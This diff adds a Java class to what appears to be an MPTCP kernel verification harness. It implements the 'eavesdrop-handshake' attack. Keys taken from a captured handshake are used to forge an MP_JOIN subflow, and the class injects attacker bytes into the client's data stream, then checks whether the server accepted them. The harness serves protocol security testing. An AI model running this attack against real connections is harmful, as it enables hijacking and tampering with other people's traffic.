@@ -1,0 +1,141 @@
+package org.mptcpverify.kernel;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.OptionalInt;
+import java.util.OptionalLong;
+import org.mptcpverify.crypto.MptcpCrypto;
+import org.mptcpverify.vocab.AttackId;
+import org.mptcpverify.wire.Bytes;
+import org.mptcpverify.wire.MptcpOption;
+import org.mptcpverify.wire.TcpSegment;
+
+/**
+ * eavesdrop-handshake: with the two keys read from the captured MP_CAPABLE third ACK, the
+ * attacker joins the connection from its own address (token and HMAC from the keys) and sends
+ * bytes with a DSS mapping at the client's next data sequence number (IDSN of the client key + 1
+ * + the bytes the client was seen sending). Success: the server kernel accepts the subflow and
+ * the server application reads the attacker's bytes inside the client's stream.
+ */
+public final class EavesdropHandshake implements KernelAttack {
+    static final byte[] INJECTED = "INJECTED BY ATTACKER\n".getBytes(StandardCharsets.US_ASCII);
+    static final int ADDRESS_ID = 9;
+
+    @Override
+    public AttackId id() {
+        return AttackId.EAVESDROP_HANDSHAKE;
+    }
+
+    @Override
+    public boolean run(AttackContext ctx) throws IOException {
+        CapturedConnection c = ctx.connection();
+        Wiretap tap = ctx.tap();
+        var rnd = ctx.random();
+        int port = 40_000 + rnd.nextInt(20_000);
+        long isn = rnd.nextLong() & 0xffffffffL;
+        int randomA = rnd.nextInt();
+        if (c.checksumRequired()) {
+            ctx.note("connection negotiated DSS checksums; this attacker does not compute them");
+            return false;
+        }
+        ctx.note(String.format("attacker: token of the server key = %08x (from the captured third ACK)",
+                c.serverToken()));
+
+        int mark = tap.size();
+        TcpSegment syn = new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), isn, 0, TcpSegment.SYN,
+                Forge.WINDOW, List.of(Forge.mss(1460),
+                        Forge.mptcp(new MptcpOption.MpJoinSyn(0, ADDRESS_ID, c.serverToken(), randomA))),
+                Bytes.empty());
+        tap.send(Topology.SERVER_MAC, syn);
+        Optional<Wiretap.Seen> reply = tap.await(mark, t -> toAttacker(t, port), 2_000);
+        if (reply.isEmpty()) {
+            ctx.note("server kernel: no reply to SYN + MP_JOIN within 2 s");
+            return false;
+        }
+        TcpSegment synAck = reply.get().segment();
+        Optional<MptcpOption.MpJoinSynAck> join = CapturedConnection.option(synAck, MptcpOption.MpJoinSynAck.class);
+        if (!synAck.has(TcpSegment.SYN) || join.isEmpty()) {
+            ctx.note("server kernel answered SYN + MP_JOIN with flags 0x" + Integer.toHexString(synAck.flags())
+                    + " options " + synAck.options());
+            return false;
+        }
+        long expected = MptcpCrypto.joinSynAckHmac(c.hash(), c.serverKey(), c.clientKey(),
+                join.get().senderRandom(), randomA);
+        ctx.note("server kernel: SYN/ACK + MP_JOIN, truncated HMAC-B "
+                + (MptcpCrypto.constantTimeEquals(expected, join.get().truncatedHmac())
+                ? "equals the one computed from the captured keys" : "DIFFERS from the one computed from the captured keys"));
+
+        Bytes hmacA = MptcpCrypto.joinAckHmac(c.hash(), c.clientKey(), c.serverKey(), randomA, join.get().senderRandom());
+        long seq = (isn + 1) & 0xffffffffL;
+        long ack = (synAck.seq() + 1) & 0xffffffffL;
+        mark = tap.size();
+        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), seq, ack,
+                TcpSegment.ACK, Forge.WINDOW, List.of(Forge.mptcp(new MptcpOption.MpJoinAck(hmacA))), Bytes.empty()));
+        // RFC 8684 3.2: the joining host waits for the listener's ACK of the third ACK.
+        Optional<Wiretap.Seen> fourth = tap.await(mark, t -> toAttacker(t, port), 1_000);
+        if (fourth.isPresent() && fourth.get().segment().has(TcpSegment.RST)) {
+            ctx.note("server kernel reset the subflow after the third ACK: " + fourth.get().segment().options());
+            return false;
+        }
+        ctx.note("server kernel: " + (fourth.isPresent() ? "ACKed the third ACK (subflow established)"
+                : "no ACK of the third ACK within 1 s"));
+
+        long dsn = c.clientNextDsn();
+        ctx.note("attacker: data sequence number = IDSN(client key) + 1 + " + c.fromClient().dataBytes()
+                + " bytes seen = " + Long.toUnsignedString(dsn)
+                + c.fromClient().dssEnd().stream().mapToObj(e -> e == dsn
+                        ? " (agrees with the highest captured DSS mapping end)"
+                        : " (captured DSS mapping end " + Long.toUnsignedString(e) + ")").findFirst().orElse(""));
+        MptcpOption.Dss dss = new MptcpOption.Dss(
+                MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8 | MptcpOption.Dss.F_MAPPING | MptcpOption.Dss.F_DSN8,
+                OptionalLong.of(c.serverNextDsn()), OptionalLong.of(dsn), OptionalLong.of(1),
+                OptionalInt.of(INJECTED.length), OptionalInt.empty());
+        int appMark = ctx.server().eventCount();
+        tap.send(Topology.SERVER_MAC, new TcpSegment(Topology.FORGED, c.server(), port, c.serverPort(), seq, ack,
+                TcpSegment.ACK | TcpSegment.PSH, Forge.WINDOW, List.of(Forge.mptcp(dss)), Bytes.of(INJECTED)));
+
+        Optional<JsonNode> got = ctx.server().awaitFrom(appMark, e -> "data".equals(e.path("event").asText()), 2_000);
+        byte[] stream = ctx.server().received();
+        ctx.note("server application read (whole stream, " + stream.length + " bytes): "
+                + printable(stream));
+        ctx.server().command("info");
+        Optional<JsonNode> info = ctx.server().awaitFrom(appMark, e -> "info".equals(e.path("event").asText()), 2_000);
+        int subflows = info.map(i -> i.path("info").path("subflows").asInt(-1)).orElse(-1);
+        ctx.note("server MPTCP_INFO: additional subflows = " + subflows
+                + info.map(i -> ", token " + i.path("info").path("token").asText()
+                        + ", rcv_nxt " + i.path("info").path("rcv_nxt").asText()).orElse(""));
+        Map<String, Long> delta = ctx.serverCounterDelta();
+        ctx.note("server MIB counters changed: " + delta);
+
+        byte[] expectedStream = concat(ctx.clientData(), INJECTED);
+        boolean injected = got.isPresent() && Arrays.equals(stream, expectedStream);
+        boolean accepted = delta.getOrDefault("MPTcpExtMPJoinAckRx", 0L) >= 1 && subflows >= 1;
+        return injected && accepted;
+    }
+
+    private static boolean toAttacker(TcpSegment t, int port) {
+        return t.dst().equals(Topology.FORGED) && t.dstPort() == port;
+    }
+
+    static byte[] concat(byte[] a, byte[] b) {
+        byte[] r = Arrays.copyOf(a, a.length + b.length);
+        System.arraycopy(b, 0, r, a.length, b.length);
+        return r;
+    }
+
+    static String printable(byte[] b) {
+        StringBuilder s = new StringBuilder("\"");
+        for (byte x : b) {
+            int v = x & 0xff;
+            if (v == '\n') s.append("\\n");
+            else if (v >= 0x20 && v < 0x7f && v != '"' && v != '\\') s.append((char) v);
+            else s.append(String.format("\\x%02x", v));
+        }
+        return s.append('"').toString();
+    }
+}
